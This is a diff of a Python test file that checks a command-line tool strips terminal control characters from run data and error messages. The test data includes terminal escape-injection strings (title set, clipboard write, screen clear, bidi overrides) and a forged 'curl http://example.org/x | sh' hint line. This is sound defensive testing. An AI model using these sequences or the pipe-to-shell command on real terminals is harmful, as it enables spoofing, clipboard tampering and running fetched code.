@@ -1,4 +1,4 @@
-"""No text of a run, of a file or of an argument steers the terminal that it is printed on."""
+"""Control characters: no text of a run, file or argument steers the terminal."""
 
 from __future__ import annotations
 
@@ -22,20 +22,20 @@ from tollbar.core.errors import TollbarError, printable
 from tollbar.report import terminal
 from tollbar.report.terminal import say_error
 
-# A title, the clipboard, a cleared screen, an end of the line; C1's CSI; text that is turned around; a surrogate.
+# A title, the clipboard, a cleared screen, an end of the line; C1's CSI; reversed text; a surrogate.
 POISON = "p\x1b]0;t\x07\x1b]52;c;eA==\x07\x1b[2J\r\x08\x9b2J\N{RIGHT-TO-LEFT OVERRIDE}\u2066\udc9bq"
-# What rich writes for Tollbar's own styles.
+# Escape codes that rich writes for Tollbar's own styles.
 STYLES = re.compile(r"\x1b\[[0-9;]*m")
 
 
 def steering(text: str) -> list[str]:
-    """The characters that steer a terminal, but for line ends and styles."""
+    """Return the characters that steer a terminal, except line ends and styles."""
     left = STYLES.sub("", text).replace("\r\n", "\n")
     return sorted({f"U+{ord(one):04X}" for one in left if one != "\n" and unicodedata.category(one)[0] == "C"})
 
 
 def poisoned(value: Any) -> Any:
-    """The same with the poison in each text, and in each key that a run may choose."""
+    """Return the value with the poison in each text, and in each key that a run may choose."""
     if isinstance(value, dict):
         return {name: poisoned(inner) for name, inner in value.items()}
     if isinstance(value, list):
@@ -67,7 +67,7 @@ def _fact(run: Path) -> None:
 def _column(statement: str) -> Callable[[Path], object]:
     def spoil(run: Path) -> None:
         with sqlite3.connect(run / "results.sqlite") as database:
-            # SQLite holds what is no Unicode, which JSON does not.
+            # SQLite can store invalid Unicode, which JSON cannot.
             database.create_function("poison", 0, lambda: POISON.replace("\udc9b", ""))
             database.create_function("poisoned", 1, lambda text: json.dumps(poisoned(json.loads(text))))
             database.execute(statement)
@@ -131,7 +131,7 @@ COMMANDS: dict[str, Sequence[str]] = {
 
 
 def ended(words: Sequence[str]) -> None:
-    """The command as `main` has it, in this process."""
+    """Run the command in this process, as `main` does."""
     with suppress(SystemExit):
         cli._status_of(words)
 
@@ -141,7 +141,6 @@ def ended(words: Sequence[str]) -> None:
 def test_no_text_of_a_run_steers_the_terminal(
     fake_runs: Path, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Each kind of text that a run holds, in each command that reads a run; the page neither."""
     run, other = fake_runs / "one", fake_runs / "other"
     KINDS[kind](run)
     run = next(one for one in fake_runs.iterdir() if one.name.startswith("one"))
@@ -210,7 +209,6 @@ def test_messages_and_progress_are_printable(capsys: pytest.CaptureFixture[str])
 
 
 def test_a_bar_on_a_terminal_shows_no_escape_of_a_name() -> None:
-    """The bar moves the cursor itself, and what it shows does not."""
     from io import StringIO
 
     from tollbar.report.terminal.streams import _Console
@@ -228,7 +226,7 @@ def test_other_text_is_printed_as_it_is(text: str) -> None:
 
 
 def test_own_words_with_colours_are_no_reason_to_refuse_a_run(fake_runs: Path, tollbar: Callable[..., Any]) -> None:
-    """A server may have coloured its last words, which became a reason."""
+    """A server's last words, which became the reason, may contain colours."""
     _column("update trial set outcome = 'failed', reason = '\x1b[31mno\x1b[0m' where block < 1")(fake_runs / "one")
     reasons = {t.reason for one in results.read(fake_runs / "one").studies for r in one.rows for t in r.all_trials}
     assert {None, "\N{REPLACEMENT CHARACTER}[31mno\N{REPLACEMENT CHARACTER}[0m"} == reasons
@@ -267,7 +265,6 @@ FORGED = "x\nerror: forged\n hint: `curl http://example.org/x | sh`\u2028hint: y
 
 @pytest.mark.parametrize("part", ["what", "where", "hint"])
 def test_a_name_with_line_ends_is_no_error_or_hint_of_its_own(part: str, capsys: pytest.CaptureFixture[str]) -> None:
-    """Files in a run, and what it says of its version, may be called so."""
     say_error(TollbarError(**{"what": "is wrong", part: FORGED}))
     lines = capsys.readouterr().err.splitlines()
     others = [line for line in lines if line and not line.startswith("  ")]
